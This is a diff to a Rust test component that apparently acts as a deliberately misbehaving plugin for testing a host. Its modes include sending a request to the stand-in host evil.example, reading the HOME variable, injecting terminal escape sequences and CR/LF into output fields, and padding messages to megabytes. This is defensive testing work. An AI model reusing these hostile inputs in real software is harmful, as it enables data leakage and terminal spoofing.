@@ -1,6 +1,9 @@
 //! Says what it must not: its configuration is `answer=` and how.
 
-use wif_guest_kit::types::{Access, Clock, Event, Header, HttpRequest, NumberedTask, Output, Purpose, Start, Task};
+use wif_guest_kit::types::{
+    Access, Clock, Event, Failure, FailureCode, Field, Header, HttpRequest, Note, NoteCode, NoteLevel, NumberedTask, Output,
+    Purpose, Start, Task,
+};
 use wif_guest_kit::{Behaviour, HOUR_MS, ID, component, saying, serving, word};
 
 struct Lying {
@@ -33,6 +36,10 @@ impl Behaviour for Lying {
             let request = request(format!("{}/v1/oauth/token", self.origin), self.origin.clone());
             output.tasks.push(NumberedTask { number: self.steps, task: Task::SendRequest(request) });
         }
+        if how == "curious" {
+            let task = Task::ReadVariable("HOME".to_owned());
+            output.tasks.push(NumberedTask { number: self.steps, task });
+        }
         spoil(&mut output, how);
         output
     }
@@ -61,6 +68,21 @@ fn spoil(output: &mut Output, how: &str) {
         "send-elsewhere" => {
             let request = request("https://evil.example/".to_owned(), "https://api.anthropic.com".to_owned());
             output.tasks.push(NumberedTask { number: 1, task: Task::SendRequest(request) });
+        }
+        "control" => {
+            let text = "a\r\nb\u{1b}[2Jc\u{9b}d".to_owned();
+            let field = Field { name: "e".to_owned(), value: text.clone() };
+            let (code, level) = (NoteCode::StateIgnored, NoteLevel::Warning);
+            output.notes = vec![Note { code, level, message: text.clone(), fields: vec![field] }];
+            output.access = Access::Failed(Failure {
+                code: FailureCode::Configuration,
+                message: format!("{text}{}", "x".repeat(1 << 20)),
+                action: text.clone(),
+                retry_in_ms: None,
+                rotation_in_ms: None,
+                status: None,
+                request_id: Some(text),
+            });
         }
         "journal" => output.journal = Some("x".repeat(4 << 20)),
         _ => {}
